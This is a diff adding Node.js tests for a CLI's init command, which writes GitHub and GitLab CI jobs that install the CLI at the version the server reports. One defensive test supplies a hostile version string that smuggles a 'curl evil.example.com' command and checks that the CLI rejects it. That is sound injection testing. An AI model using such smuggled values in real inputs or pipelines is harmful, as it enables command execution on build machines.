@@ -7,6 +7,8 @@ import { type TestContext, test } from "node:test";
 import { stripVTControlCharacters } from "node:util";
 import { onSqlite } from "../../../server/testing/databases.ts";
 import { startTestServer } from "../../../server/testing/test-server.ts";
+import manifest from "../../package.json" with { type: "json" };
+import { startFakeServer } from "../../testing/fake-server.ts";
 import { createProject, type Project } from "../../testing/project.ts";
 import { templateNames } from "./templates.ts";
 
@@ -28,6 +30,7 @@ test("init creates a valid, formatted project from each template", async (t) => 
     assert.equal(run.exitCode, 0, run.stderr);
     const config = JSON.parse(await project.read("screenspec.config.json"));
     assert.deepEqual([config.server, config.channel], [url, "staging"]);
+    assert.equal(config.$schema, `${url}/schemas/cli/config.json`);
     const spec = await project.read(`specs/${template}.json`);
     assert.ok(spec.startsWith(`{\n  "$schema": "${url}/schemas/1.0.0/spec.json",\n  "name": "`));
     assert.equal((await project.run("validate")).stdout, "", template);
@@ -106,6 +109,40 @@ test("CI files are in the root of the repository, and work in the project's fold
   assert.match(workflow, /working-directory: "apps\/my app"\n/);
   const config = JSON.parse(await project.read("apps/my app/screenspec.config.json"));
   assert.match(config.project, /^screenspec-cli-\w+(-\w+)*\/apps\/my-app$/);
+});
+
+test("Jobs install the CLI from the server, in the version that the server says", async (t) => {
+  const info = { version: "7.8.9" };
+  const server = await startFakeServer(t, { "/openapi.json": { openapi: "3.1.1", info } });
+  for (const [host, file] of [
+    ["github", ".github/workflows/screenspec.yml"],
+    ["gitlab", ".gitlab/screenspec.yml"],
+  ] as const) {
+    const project = await createProject(t);
+    const { stderr } = await project.run("init", "--server", server.origin, "--yes", "--ci", host);
+    const jobs = await project.read(file);
+    assert.ok(jobs.includes(`SCREENSPEC_SERVER: "${server.origin}"`), jobs);
+    assert.ok(
+      jobs.includes(
+        'npm install --global "$SCREENSPEC_SERVER/packages/screenspec-cli-7.8.9.tgz"\n',
+      ),
+    );
+    assert.doesNotMatch(jobs, /@screenspec\/cli/);
+    assert.match(stderr, /change SCREENSPEC_SERVER to an address that CI reaches/);
+  }
+});
+
+test("A server that doesn't say its version, or names a command, gets the version of this CLI", async (t) => {
+  const info = { version: '1.0.0"; curl evil.example.com; "' };
+  const hostile = await startFakeServer(t, { "/openapi.json": { openapi: "3.1.1", info } });
+  for (const server of [hostile.origin, "http://127.0.0.1:9"]) {
+    const project = await createProject(t);
+    const run = await project.run("init", "--server", server, "--yes", "--ci", "github");
+    assert.equal(run.exitCode, 0, run.stderr);
+    const jobs = await project.read(".github/workflows/screenspec.yml");
+    assert.ok(jobs.includes(`/packages/screenspec-cli-${manifest.version}.tgz"\n`));
+    assert.match(run.stderr, /doesn't say its version/);
+  }
 });
 
 test("Jobs for GitLab are included by its configuration, or a note says how", async (t) => {
